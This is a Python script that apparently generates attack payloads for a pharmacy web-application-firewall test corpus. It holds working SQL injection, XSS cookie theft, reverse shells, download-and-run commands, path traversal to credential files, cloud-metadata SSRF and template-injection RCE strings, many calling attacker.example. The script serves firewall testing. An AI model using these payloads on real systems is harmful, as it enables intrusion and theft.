#!/usr/bin/env python3
"""Attack half of the pharmacyops held-out WAF corpus.

Standard library only. Writes attacks.jsonl next to this file.
Literal lines are "class ⟫ value". Markers inside values: "¶" or "␊" = LF,
"␍" = CR, "␀" = NUL, "⇥" = TAB, "␛" = ESC. A small number of extra values per category
come from ONE template: a hand-written theme prefix joined to a hand-written
payload, or one encoding (URL-encoding) applied to a hand-written payload.
random.Random(12602) picks the combinations.
"""
import json
import os
import random
import urllib.parse

SEED = 12602
PREFIX = "hac6"
SEP = " ⟫ "


def block(text):
    out = []
    for line in text.strip("\n").split("\n"):
        if not line.strip():
            continue
        cls, val = line.split(SEP, 1)
        val = (val.replace("¶", "\n").replace("␊", "\n").replace("␍", "\r")
               .replace("␀", "\x00").replace("⇥", "\t").replace("␛", "\x1b"))
        out.append((cls.strip(), val))
    return out


CATS = []  # (category, literals, template_spec)

# ======================================================================= sqli
SQLI = block(r'''
note-union-select ⟫ amoxicillin 500 mg' UNION SELECT username, password_hash FROM users--
search-union-null-pg ⟫ vanco' UNION ALL SELECT NULL,NULL,version()-- -
plain-numeric-boolean ⟫ 448210 OR 1=1
order-id-union-infoschema ⟫ 448210 UNION SELECT 1,table_name,3 FROM information_schema.tables
ndc-mssql-convert-error ⟫ 0409-4888-02' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects WHERE xtype='U'))--
lot-mssql-waitfor ⟫ lot K7Q2211'; WAITFOR DELAY '0:0:5'--
search-mysql-sleep-hash ⟫ heparin' AND SLEEP(5)#
note-pg-stacked-sleep ⟫ insulin glargine'; SELECT pg_sleep(5);--
search-mysql-extractvalue ⟫ ceftriaxone' AND extractvalue(1,concat(0x7e,(SELECT user())))-- -
search-mysql-updatexml ⟫ cefepime' AND updatexml(1,concat(0x7e,database()),1)#
formulary-oracle-union-banner ⟫ ondansetron' UNION SELECT banner,NULL FROM v$version--
formulary-oracle-utl-inaddr ⟫ metoprolol' AND 1=utl_inaddr.get_host_name((SELECT user FROM dual))--
lot-oracle-dbms-pipe ⟫ 24B91' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',5)--
search-sqlite-master ⟫ warfarin' UNION SELECT sql,2 FROM sqlite_master--
search-sqlite-randomblob ⟫ tacrolimus' AND 1=randomblob(900000000)--
note-mssql-xp-cmdshell ⟫ hold 0600 dose'; EXEC xp_cmdshell 'whoami'--
sig-drop-table ⟫ Zosyn 3.375 g IV q8h'); DROP TABLE med_orders;--
search-comment-as-space ⟫ pip-tazo'/**/UNION/**/SELECT/**/username,password/**/FROM/**/users#
search-mysql-versioned-comment ⟫ heparin' /*!50000UNION*/ /*!50000SELECT*/ 1,@@hostname,3-- -
search-case-mixing ⟫ morphine' uNiOn SeLeCt 1,@@version,3-- -
plain-string-boolean ⟫ ' OR 'a'='a
login-comment-truncation ⟫ chief_pharmacist'--
plain-or-limit ⟫ ' OR 1=1 LIMIT 1#
order-id-paren-boolean ⟫ 448210) OR (1=1)--
lot-blind-ascii-substring ⟫ K7Q2211' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64--
note-blind-count ⟫ fridge 3B ok' AND (SELECT COUNT(*) FROM users)>0 AND 'x'='x
search-exists-admin ⟫ lisinopril' OR EXISTS(SELECT * FROM pharmacists WHERE role='admin')-- 
sort-case-when-error ⟫ drug_name ASC, (CASE WHEN (SELECT SUBSTR(password,1,1) FROM users WHERE id=1)='a' THEN 1 ELSE 1/0 END)
sort-subquery-sleep ⟫ exp_date,(SELECT SLEEP(5))
search-order-by-enum ⟫ amoxicillin' ORDER BY 9-- -
search-group-having-mssql ⟫ ondansetron' GROUP BY drug_id HAVING 1=1--
note-mssql-if-waitfor ⟫ excursion 9.4C'; IF (1=1) WAITFOR DELAY '0:0:5'--
note-pg-copy-program ⟫ batch C-2025-0611'; COPY (SELECT '') TO PROGRAM 'curl http://attacker.example/x.sh|sh'--
search-mysql-into-outfile ⟫ ketamine' UNION SELECT '<?php system($_GET[c]);?>',2 INTO OUTFILE '/var/www/html/s.php'-- -
search-mysql-load-file ⟫ baclofen' UNION SELECT LOAD_FILE('/etc/passwd'),2-- -
lot-mssql-xp-dirtree-oob ⟫ 2F4471A'; EXEC master..xp_dirtree '\\attacker.example\share'--
search-oracle-utl-http-oob ⟫ digoxin' UNION SELECT UTL_HTTP.REQUEST('http://attacker.example/'||(SELECT user FROM dual)) FROM dual--
search-pg-cast-error ⟫ enoxaparin' AND 1=CAST((SELECT current_user) AS int)--
note-pg-dollar-do-block ⟫ recount done'; DO $$BEGIN PERFORM pg_sleep(5); END$$;--
search-mysql-hex-literal ⟫ naloxone' UNION SELECT 0x61646d696e,password FROM users-- -
login-char-function ⟫ x' OR username=CHAR(97,100,109,105,110)-- -
plain-urlencoded-boolean ⟫ %27%20OR%201%3D1--%20
search-double-urlencoded-union ⟫ amoxicillin%2527%2520UNION%2520SELECT%2520NULL%252Cpassword%2520FROM%2520users--
search-iis-u-encoding ⟫ cefazolin%u0027%u0020OR%u00201=1--
search-fullwidth-quote ⟫ heparin＇ OR 1=1--
qty-numeric-pg-sleep ⟫ 12 AND 1=(SELECT 1 FROM pg_sleep(5))
qty-numeric-mysql-derived-sleep ⟫ 25 AND (SELECT 1 FROM (SELECT SLEEP(5))a)
order-id-group-concat ⟫ -1 UNION SELECT 1,group_concat(user,0x3a,authentication_string),3 FROM mysql.user
qty-numeric-stacked-pg ⟫ 30;SELECT pg_sleep(5)
qty-numeric-benchmark ⟫ 1 OR BENCHMARK(10000000,MD5(1))
search-like-wildcard-union ⟫ amox%' UNION SELECT drug_name, cost FROM controlled_substances WHERE '%'='
search-like-boolean ⟫ hydrOXY%' AND 1=1 AND '%'='
note-mssql-insert-admin ⟫ ok to proceed'; INSERT INTO users(login,role) VALUES('eve','admin')--
note-update-all-rows ⟫ counted by AM'; UPDATE inventory SET qty=0 WHERE 1=1--
note-sqlite-attach-webshell ⟫ x'; ATTACH DATABASE '/var/www/html/x.php' AS p; CREATE TABLE p.t(d text); INSERT INTO p.t VALUES('<?php system($_GET[0]);?>');--
search-case-boolean ⟫ lithium' AND 1=(SELECT CASE WHEN (1=1) THEN 1 ELSE 0 END)--
search-mysql-if-version-sleep ⟫ digoxin' AND IF(SUBSTR(@@version,1,1)='8',SLEEP(5),0)-- -
search-oracle-concat-error ⟫ gent'||(SELECT CASE WHEN 1=1 THEN TO_CHAR(1/0) ELSE NULL END FROM dual)||'
search-mysql-rlike-boolean ⟫ vanc' RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))-- -
plain-empty-string-or ⟫ ' OR ''='
note-plus-comment ⟫ Lasix 40 mg IV BID' OR 2>1 --+
search-like-tautology ⟫ insulin' OR 'x' LIKE 'x
search-mssql-in-version-error ⟫ cisplatin' AND 1 IN (SELECT @@version)--
search-oracle-concat-subquery ⟫ amiodarone'||(SELECT 'a' FROM dual WHERE 1=1)||'
lot-blind-length ⟫ lot K7Q2211' AND (SELECT 1 FROM users WHERE username='admin' AND LENGTH(password)>8)='1
plain-paren-string-boolean ⟫ ') OR ('1'='1
search-double-quote-double-paren ⟫ dexamethasone")) OR (("a"="a
note-newline-comment-split ⟫ pt refused dose' OR/*¶*/1=1-- -
qty-scientific-union ⟫ -1.0UNION SELECT 1,user(),3-- -
note-mssql-hex-exec ⟫ see MAR';DECLARE @q VARCHAR(99);SET @q=0x77686f616d69;EXEC master..xp_cmdshell @q;--
search-oracle-heavy-query ⟫ tobramycin' AND 1=(SELECT COUNT(*) FROM all_users t1, all_users t2, all_users t3, all_users t4)--
note-mssql-shutdown ⟫ recall done'; SHUTDOWN WITH NOWAIT;--
search-mssql-sql-logins ⟫ heparin' UNION SELECT name, password_hash FROM sys.sql_logins--
search-mysql-null-byte-comment ⟫ apixaban' OR 1=1;%00
''')

SQLI_PREFIX = ["amoxicillin 500 mg PO q8h", "NDC 0409-4888-02", "lot K7Q2211", "Fridge 3B 4.2 C",
               "pip-tazo 4.5 g", "ADC 5W drawer 3"]
SQLI_PAY = [("union-select-users", "' UNION SELECT login,password FROM users--"),
            ("mysql-sleep", "' AND SLEEP(5)-- -"),
            ("mssql-waitfor", "'; WAITFOR DELAY '0:0:7'--"),
            ("pg-sleep-concat", "'||(SELECT pg_sleep(5))||'"),
            ("boolean-or", "' OR 1=1-- -")]

# ======================================================================== xss
XSS = block(r'''
note-script-tag ⟫ Take with food <script>alert(document.domain)</script>
plain-img-onerror ⟫ <img src=x onerror=alert(1)>
note-svg-onload-cookie ⟫ amoxicillin 500 mg <svg onload=fetch('//attacker.example/c?'+document.cookie)>
note-iframe-js-uri ⟫ see leaflet <iframe src="javascript:alert(1)">
note-anchor-js-uri ⟫ <a href="javascript:alert(document.cookie)">Med guide</a>
note-anchor-entity-scheme ⟫ <a href="jav&#x61;script:alert(1)">Package insert</a>
note-anchor-decimal-entities ⟫ <a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">dosing chart</a>
note-body-onload ⟫ fridge log ok <body onload=alert(1)>
note-details-ontoggle ⟫ <details open ontoggle=alert(1)>Allergies</details>
note-input-autofocus ⟫ <input autofocus onfocus=alert(1)>
note-video-source-onerror ⟫ <video><source onerror=alert(1)></video>
note-audio-onerror ⟫ <audio src=x onerror=alert(document.domain)>
note-marquee-onstart ⟫ <marquee onstart=alert(1)>recall</marquee>
attr-break-script ⟫ Vanco 1250"><script>alert(1)</script>
attr-single-quote-event ⟫ heparin' onmouseover='alert(1)
attr-autofocus-onfocus ⟫ lot K7Q2211" autofocus onfocus="alert(1)
textarea-breakout ⟫ </textarea><script>alert(1)</script>
title-breakout-svg ⟫ </title><svg/onload=alert(1)>
search-case-mixed-script ⟫ <ScRiPt>alert(1)</sCrIpT>
note-nested-strip-once ⟫ <scr<script>ipt>alert(1)</scr</script>ipt>
note-svg-script-entities ⟫ <svg><script>alert&#40;1&#41;</script></svg>
note-onerror-entity-handler ⟫ <img src=x onerror="&#97;lert(1)">
note-onerror-js-unicode ⟫ <img src=x onerror=\u0061lert(1)>
note-atob-eval ⟫ <img src=x onerror=eval(atob('YWxlcnQoMSk='))>
note-fromcharcode ⟫ <svg onload=eval(String.fromCharCode(97,108,101,114,116,40,49,41))>
search-urlencoded-script ⟫ %3Cscript%3Ealert(1)%3C%2Fscript%3E
search-double-urlencoded-script ⟫ %253Cscript%253Ealert(1)%253C%252Fscript%253E
note-mxss-math-style ⟫ <math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
note-mxss-noscript ⟫ <noscript><p title="</noscript><img src=x onerror=alert(1)>">
note-object-data-base64 ⟫ <object data="data:text/html;base64,PHNjcmlwdD5hbGVydChkb2N1bWVudC5kb21haW4pPC9zY3JpcHQ+"></object>
note-form-action-js ⟫ <form action="javascript:alert(1)"><button>Submit refill</button></form>
note-button-formaction ⟫ <form><button formaction=javascript:alert(1)>Verify</button></form>
note-meta-refresh-redirect ⟫ <meta http-equiv="refresh" content="0;url=https://attacker.example/login">
note-base-href-hijack ⟫ <base href="https://attacker.example/">
note-style-import-exfil ⟫ <style>@import 'https://attacker.example/leak.css';</style>
url-field-js-uri ⟫ javascript:alert(document.domain)
url-field-js-case ⟫ JaVaScRiPt:alert(1)
href-entity-tab-scheme ⟫ <a href="java&#x09;script:alert(1)">label PDF</a>
note-svg-animate-onbegin ⟫ <svg><animate onbegin=alert(1) attributeName=x dur=1s>
note-svg-animate-href ⟫ <svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Open SOP</text></a></svg>
note-dynamic-import ⟫ <img src=1 onerror=import('//attacker.example/x.js')>
note-external-script ⟫ Shortage list: <script src=//attacker.example/x.js></script>
note-cookie-image-beacon ⟫ <script>new Image().src='https://attacker.example/c?'+document.cookie</script>
note-localstorage-exfil ⟫ <img src=x onerror=fetch('https://attacker.example/?t='+localStorage.getItem('token'))>
label-angularjs-csti ⟫ {{constructor.constructor('alert(1)')()}}
label-vue-csti ⟫ {{_c.constructor('alert(1)')()}}
js-string-breakout-single ⟫ ';alert(1);//
js-string-breakout-minus ⟫ "-alert(1)-"
js-string-backslash-breakout ⟫ \';alert(1);//
script-block-breakout ⟫ </script><script>alert(1)</script>
markdown-link-js ⟫ [Package insert](javascript:alert(1))
markdown-image-attr-break ⟫ ![label](x" onerror="alert(1))
note-custom-tag-onclick ⟫ <x onclick=alert(1)>click for dosing</x>
note-svg-tagged-template ⟫ <svg/onload=alert`1`>
note-slash-separators ⟫ <img/src/onerror=prompt(1)>
note-tab-separator ⟫ <svg⇥onload=confirm(1)>
note-string-concat-call ⟫ <img src=x onerror=top['al'+'ert'](1)>
note-hex-escape-property ⟫ <img src=x onerror=window['\x61lert'](1)>
note-iframe-srcdoc ⟫ <iframe srcdoc="&lt;script&gt;alert(parent.document.cookie)&lt;/script&gt;"></iframe>
note-select-autofocus ⟫ <select autofocus onfocus=alert(1)></select>
note-textarea-autofocus ⟫ <textarea autofocus onfocus=alert(1)></textarea>
note-body-onpageshow ⟫ <body onpageshow=alert(1)>
note-style-onload ⟫ <style onload=alert(1)></style>
note-unclosed-tag ⟫ Recall lot 24B91 <img src=x:x onerror=alert(1)//
search-fullwidth-nfkc ⟫ ＜script＞alert(1)＜/script＞
search-overlong-utf8 ⟫ %C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE
search-iis-u-encoding ⟫ %u003Cscript%u003Ealert(1)%u003C/script%u003E
json-unicode-escape-innerhtml ⟫ \u003cimg src=x onerror=alert(1)\u003e
note-newline-in-tag ⟫ <img src="x"¶onerror=alert(1)>
note-svg-xmlns-onload ⟫ <svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"/>
note-onfocusin-tabindex ⟫ <xss id=x tabindex=1 autofocus onfocusin=alert(1)></xss>
note-cookie-img-src ⟫ <img src=x onerror=this.src='//attacker.example/?c='+document.cookie>
''')

XSS_PREFIX = ["Pharmacist note: ", "Allergy: PCN (rash) ", "Label ES: Tomar 1 tableta ", "Fridge 2 4.4 C ",
              "Recall lot K7Q2211 "]
XSS_PAY = [("img-onerror", "<img src=x onerror=alert(document.domain)>"),
           ("svg-onload", "<svg onload=alert(1)>"),
           ("script-external", "<script src=https://attacker.example/p.js></script>"),
           ("iframe-js", "<iframe src=javascript:alert(1)></iframe>"),
           ("details-ontoggle", "<details open ontoggle=alert(document.cookie)>")]

# ======================================================================= cmdi
CMDI = block(r'''
filename-semicolon-cat ⟫ amoxicillin_label.pdf; cat /etc/passwd
filename-and-id ⟫ label_es.txt && id
lot-pipe-netcat ⟫ K7Q2211 | nc attacker.example 4444 -e /bin/sh
export-subshell-curl ⟫ inventory-2025-06.csv $(curl -s http://attacker.example/x.sh|sh)
plain-backtick-id ⟫ `id`
note-or-wget-pipe ⟫ fridge3B.log || wget -qO- http://203.0.113.7/p | sh
filename-encoded-newline ⟫ fridge3B.log%0aid
filename-raw-newline ⟫ report.csv¶whoami
filename-ifs-space ⟫ label.pdf;cat${IFS}/etc/passwd
filename-brace-expansion ⟫ label.pdf;{cat,/etc/passwd}
filename-quote-splitting ⟫ label.pdf;c''at /e""tc/pa''sswd
filename-glob-wildcards ⟫ label.pdf;/???/c?t /???/p??s??
filename-printf-hex ⟫ label.pdf;$(printf '\x69\x64')
filename-base64-pipe ⟫ label.pdf;echo Y2F0IC9ldGMvcGFzc3dk|base64 -d|sh
note-bash-dev-tcp ⟫ TPN batch 12;bash -i >& /dev/tcp/198.51.100.23/443 0>&1
note-python-reverse-shell ⟫ lot 24B91;python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.9",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")'
filename-sleep-timing ⟫ label_fr.pdf;sleep 10
win-ping-timing ⟫ report.xlsx & ping -n 10 127.0.0.1 &
win-type-winini ⟫ label.pdf | type C:\Windows\win.ini
win-whoami-all ⟫ NDC 0409-4888-02 & whoami /all
win-powershell-iex ⟫ fridge.csv; powershell -nop -c "iex(New-Object Net.WebClient).DownloadString('http://attacker.example/a.ps1')"
win-powershell-encoded ⟫ label.pdf & powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AYQB0AHQAYQBjAGsAZQByAC4AZQB4AGEAbQBwAGwAZQAvAGEALgBwAHMAMQAnACkA
win-certutil-download ⟫ x & certutil -urlcache -split -f http://attacker.example/x.exe %TEMP%\x.exe & %TEMP%\x.exe
win-cmd-set-env ⟫ label.pdf | cmd /c "set"
filename-urlencoded-newline-shadow ⟫ label.pdf%0Acat%20/etc/shadow
argv-tar-checkpoint ⟫ --checkpoint=1 --checkpoint-action=exec=sh /tmp/x.sh
argv-find-exec ⟫ labels -exec sh -c 'id > /tmp/p' ;
argv-git-upload-pack ⟫ --upload-pack=touch /tmp/pwned
argv-ssh-proxycommand ⟫ -oProxyCommand=sh -c 'curl attacker.example|sh' x
argv-curl-output-webroot ⟫ http://attacker.example/s.php -o /var/www/html/s.php
argv-wget-post-file ⟫ --post-file=/etc/passwd http://attacker.example/
argv-zip-unzip-command ⟫ -TT 'sh -c id' -T
argv-rsync-remote-shell ⟫ -e 'sh -c id' x:
argv-sendmail-log-file ⟫ pharmacy@hospital.example -X/var/www/html/x.php -OQueueDirectory=/tmp
argv-awk-begin-system ⟫ BEGIN{system("id")}
plain-semicolon-comment ⟫ ;id #
plain-double-pipe ⟫ || id
note-dns-exfil ⟫ lot 2F4471A; nslookup $(whoami).attacker.example
note-http-exfil-hostname ⟫ fridge 3B; curl http://attacker.example/$(hostname)
note-rm-rf ⟫ outdated stock; rm -rf /var/lib/pharmacy/*
note-crontab-persistence ⟫ x; echo '* * * * * root curl attacker.example|sh' >> /etc/crontab
note-setuid-bash ⟫ x; chmod +s /bin/bash
note-perl-exec ⟫ label.pdf;perl -e 'exec "/bin/sh"'
note-php-cli-system ⟫ label.pdf;php -r 'system("id");'
note-ruby-exec ⟫ label.pdf;ruby -e 'exec "id"'
note-nc-e ⟫ label.pdf;nc -e /bin/sh 203.0.113.5 9001
note-mkfifo-reverse ⟫ label.pdf;rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.5 9001 >/tmp/f
header-shellshock ⟫ () { :; }; /bin/bash -c 'id'
filename-input-redirect-subst ⟫ label.pdf;echo $(</etc/passwd)
filename-input-redirect-nospace ⟫ label.pdf;cat</etc/passwd
filename-quote-obfuscated-whoami ⟫ label.pdf;w'h'o'am'i
filename-backslash-obfuscated ⟫ label.pdf;wh\oami
filename-empty-var-obfuscation ⟫ label.pdf;$u$(echo id)
filename-brace-base64 ⟫ label.pdf;{echo,aWQ=}|{base64,-d}|sh
filename-var-concat ⟫ label.pdf;a=i;b=d;$a$b
filename-urlencoded-and ⟫ label.pdf%26%26id
filename-double-urlencoded-semicolon ⟫ label.pdf%253Bid
win-powershell-webconfig ⟫ label.pdf | powershell Get-Content C:\inetpub\wwwroot\web.config
win-net-user-add ⟫ report.xlsx & net user eve P@ss1234 /add & net localgroup administrators eve /add
filename-ifs-base64-subst ⟫ label.pdf;$(echo${IFS}aWQ=|base64${IFS}-d)
plain-backtick-sleep ⟫ `sleep 5`
note-subshell-sleep ⟫ lot 24B92 $(sleep 7)
win-caret-obfuscation ⟫ label.pdf & w^h^o^a^m^i
''')

CMDI_PREFIX = ["label_es.pdf", "fridge3B_2025-06.csv", "inventory-2025-06-01.csv", "lot K7Q2211", "NDC 0409-4888-02"]
CMDI_PAY = [("semicolon-id", ";id"), ("and-cat-passwd", " && cat /etc/passwd"),
            ("subshell-curl", "$(curl -s http://attacker.example/i|sh)"),
            ("backtick-wget", "`wget -qO /tmp/x http://198.51.100.4/x`"),
            ("pipe-sh-reverse", " | sh -i >& /dev/tcp/203.0.113.8/9001 0>&1")]

# ================================================================== traversal
TRAV = block(r'''
plain-dotdot-passwd ⟫ ../../../../etc/passwd
label-path-shadow ⟫ labels/../../../../etc/shadow
urlencoded-slash ⟫ ..%2f..%2f..%2f..%2fetc%2fpasswd
urlencoded-dots ⟫ %2e%2e%2f%2e%2e%2f%2e%2e%2fetc/passwd
double-urlencoded-slash ⟫ ..%252f..%252f..%252fetc/passwd
overlong-utf8-slash ⟫ ..%c0%af..%c0%af..%c0%afetc/passwd
overlong-utf8-backslash ⟫ ..%c1%9c..%c1%9c..%c1%9cwindows/win.ini
windows-backslash ⟫ ..\..\..\windows\win.ini
urlencoded-backslash ⟫ ..%5c..%5c..%5cwindows%5cwin.ini
strip-once-doubled ⟫ ....//....//....//etc/passwd
strip-once-dot-slash ⟫ ..././..././..././etc/passwd
export-null-byte-ext ⟫ ../../../../etc/passwd%00.csv
label-null-byte-pdf ⟫ labels/../../../etc/passwd%00.pdf
absolute-prefix-escape ⟫ /var/www/pharmacy/labels/../../../../etc/passwd
windows-absolute ⟫ C:\Windows\System32\drivers\etc\hosts
iis-u-slash ⟫ ..%u2215..%u2215..%u2215etc/passwd
fullwidth-nfkc ⟫ ．．／．．／．．／etc/passwd
proc-self-environ ⟫ ../../../../proc/self/environ
proc-cmdline ⟫ labels/../../../proc/self/cmdline
log-poisoning-target ⟫ ../../../../var/log/nginx/access.log
php-filter-wrapper ⟫ php://filter/convert.base64-encode/resource=../config.php
ssh-key ⟫ ../../../../root/.ssh/id_rsa
dotenv ⟫ templates/../../.env
java-web-inf ⟫ ../../../WEB-INF/web.xml
tomcat-path-param ⟫ ..;/..;/WEB-INF/web.xml
tomcat-admin-bypass ⟫ /labels/..;/manager/html
mixed-encoded-dots ⟫ %2e%2e/%2e%2e/%2e%2e/etc/hosts
half-encoded-dot ⟫ .%2e/.%2e/.%2e/.%2e/etc/passwd
double-urlencoded-dots ⟫ %252e%252e%252f%252e%252e%252fetc%252fpasswd
double-backslash-escaped ⟫ labels\\..\\..\\..\\windows\\win.ini
double-urlencoded-backslash ⟫ ..%255c..%255c..%255cwindows%255cwin.ini
leading-slash-encoded-dots ⟫ /%2e%2e/%2e%2e/%2e%2e/etc/passwd
windows-doubled-backslash ⟫ ....\\....\\....\\windows\\win.ini
double-slash ⟫ ..//..//..//..//etc//passwd
dot-segments-prefix ⟫ /./././../../../../etc/passwd
label-lang-dir ⟫ labels/es/../../../../../../etc/passwd
export-bash-history ⟫ exports/2025-06/../../../../../home/rxadmin/.bash_history
windows-forward-slash ⟫ C:/inetpub/wwwroot/../../Windows/win.ini
windows-app-config ⟫ ..\..\..\..\ProgramData\PharmacyApp\config.xml
zip-slip-entry ⟫ ../../../../var/www/html/shell.jsp
overlong-dots ⟫ %c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd
overlong-3byte-slash ⟫ ..%e0%80%af..%e0%80%af..%e0%80%afetc/passwd
k8s-token ⟫ ../../../../var/run/secrets/kubernetes.io/serviceaccount/token
aws-credentials ⟫ ../../../../home/app/.aws/credentials
win-unc-admin-share ⟫ \\127.0.0.1\c$\windows\win.ini
''')

TRAV_PREFIX = ["labels/es/", "exports/2025-06/", "templates/rx/", "uploads/fridge-logs/", "reports/"]
TRAV_PAY = [("dotdot-passwd", "../../../../../etc/passwd"), ("dotdot-winini", "..\\..\\..\\..\\windows\\win.ini"),
            ("encoded-shadow", "..%2f..%2f..%2f..%2fetc%2fshadow"), ("dotenv", "../../../.env")]

# ======================================================================= ssrf
SSRF = block(r'''
aws-imds-credentials ⟫ http://169.254.169.254/latest/meta-data/iam/security-credentials/
aws-imds-userdata ⟫ http://169.254.169.254/latest/user-data
gcp-metadata-token ⟫ http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token
azure-imds ⟫ http://169.254.169.254/metadata/instance?api-version=2021-02-01
alibaba-metadata ⟫ http://100.100.100.200/latest/meta-data/
loopback-admin ⟫ http://127.0.0.1:8080/admin?ndc=0409-4888-02
docker-api ⟫ http://localhost:2375/containers/json
ipv6-loopback-redis ⟫ http://[::1]:6379/
zero-ip-elasticsearch ⟫ http://0.0.0.0:9200/_cat/indices
decimal-ip ⟫ http://2130706433/fridge/export
hex-ip ⟫ http://0x7f000001/admin
octal-first-octet ⟫ http://0177.0.0.1/server-status
short-ip ⟫ http://127.1/actuator/env
ipv4-mapped-ipv6 ⟫ http://[::ffff:127.0.0.1]/admin
ipv4-mapped-hex-imds ⟫ http://[::ffff:a9fe:a9fe]/latest/meta-data/
dns-name-to-imds ⟫ http://169.254.169.254.attacker.example/latest/meta-data/
userinfo-confusion ⟫ http://formulary.attacker.example@127.0.0.1/admin
fragment-confusion ⟫ http://127.0.0.1:8080#@labels.attacker.example/
open-redirect-chain ⟫ https://attacker.example/redirect?to=http://169.254.169.254/latest/meta-data/
gopher-redis-flushall ⟫ gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0AFLUSHALL%0D%0A
gopher-smtp ⟫ gopher://127.0.0.1:25/_HELO%20x%0D%0AMAIL%20FROM%3A%3Cpharmacy%40hospital.example%3E%0D%0ARCPT%20TO%3A%3Cv%40attacker.example%3E%0D%0A
dict-memcached ⟫ dict://127.0.0.1:11211/stats
file-scheme-passwd ⟫ file:///etc/passwd
file-scheme-windows ⟫ file:///C:/Windows/win.ini
ftp-internal ⟫ ftp://10.0.0.5/exports/
consul-agent ⟫ http://10.0.0.12:8500/v1/agent/self
router-internal ⟫ http://192.168.1.1/cgi-bin/luci
kubelet-pods ⟫ https://172.17.0.1:10250/pods
k8s-api-secrets ⟫ https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets
cluster-service ⟫ http://pharmacy-db.internal.svc.cluster.local:5432/
enclosed-alnum-nfkc ⟫ http://①②⑦.⓪.⓪.①/admin
java-netdoc ⟫ netdoc:///etc/passwd
zero-host ⟫ http://0/
expanded-ipv6-mapped ⟫ http://[0:0:0:0:0:ffff:7f00:1]/admin
octal-dword ⟫ http://017700000001/admin
hex-dotted ⟫ http://0x7f.0x0.0x0.0x1/admin
zero-padded ⟫ http://127.000.000.001/admin
backslash-parser-confusion ⟫ http://169.254.169.254:80\@labels.attacker.example/
dns-rebinding ⟫ http://rebind-127-0-0-1.attacker.example:8080/admin
aws-imds-ipv6 ⟫ http://[fd00:ec2::254]/latest/meta-data/
aws-instance-data ⟫ http://instance-data/latest/meta-data/iam/info
gcp-metadata-short ⟫ http://metadata/computeMetadata/v1/?recursive=true
webhook-jolokia ⟫ http://localhost:8778/jolokia/list
webhook-spring-heapdump ⟫ http://127.0.0.1:8081/actuator/heapdump
jar-scheme ⟫ jar:http://attacker.example/labels.zip!/x.class
''')

SSRF_PREFIX = []  # SSRF template: URL-encode a hand-written target (one encoding)
SSRF_PAY = [("imds", "http://169.254.169.254/latest/meta-data/"), ("loopback", "http://127.0.0.1:8080/admin"),
            ("gcp", "http://metadata.google.internal/computeMetadata/v1/"), ("file", "file:///etc/passwd"),
            ("redis", "http://127.0.0.1:6379/"), ("consul", "http://10.0.0.12:8500/v1/kv/?recurse")]

# ======================================================================= code
CODE = block(r'''
jinja2-cycler-popen ⟫ Label: {{ cycler.__init__.__globals__.os.popen('id').read() }}
jinja2-self-builtins ⟫ {{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}
jinja2-subclasses ⟫ {{ ''.__class__.__mro__[1].__subclasses__() }}
jinja2-config-leak ⟫ Rx for {{ config.items() }}
jinja2-request-application ⟫ {{ request.application.__globals__.__builtins__.__import__('os').popen('id').read() }}
jinja2-catch-warnings-loop ⟫ {% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}{{ c()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}
jinja2-attr-filter-bypass ⟫ {{ lipsum|attr('__globals__')|attr('__getitem__')('os')|attr('popen')('id')|attr('read')() }}
twig-filter-system ⟫ {{['id']|filter('system')}}
twig-undefined-filter-callback ⟫ {{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}
smarty-system ⟫ Dear {system('id')}, your refill is ready
smarty-php-tag ⟫ {php}echo `id`;{/php}
freemarker-execute ⟫ <#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}
velocity-runtime ⟫ #set($e="")$e.getClass().forName("java.lang.Runtime").getMethod("getRuntime",null).invoke(null,null).exec("id")
thymeleaf-preprocess ⟫ __${T(java.lang.Runtime).getRuntime().exec('id')}__::.x
pebble-getclass ⟫ {{ variable.getClass().forName('java.lang.Runtime').getRuntime().exec('id') }}
erb-backtick ⟫ <%= `id` %>
erb-system ⟫ Take 1 tab <%= system('cat /etc/passwd') %>
mako-import ⟫ ${__import__('os').popen('id').read()}
mako-block ⟫ <% import os; os.system('id') %>
tornado-import ⟫ {% import os %}{{ os.popen('id').read() }}
handlebars-constructor-chain ⟫ {{#with "s" as |string|}}{{#with "e"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub "constructor")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push "return process.mainModule.require('child_process').execSync('id');"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}
nunjucks-range-constructor ⟫ {{range.constructor("return global.process.mainModule.require('child_process').execSync('id')")()}}
ejs-require ⟫ <%= global.process.mainModule.require('child_process').execSync('id') %>
pug-interpolation ⟫ #{global.process.mainModule.require('child_process').execSync('id')}
razor-process-start ⟫ @System.Diagnostics.Process.Start("cmd.exe","/c whoami")
django-debug-tag ⟫ Label footer {% debug %}
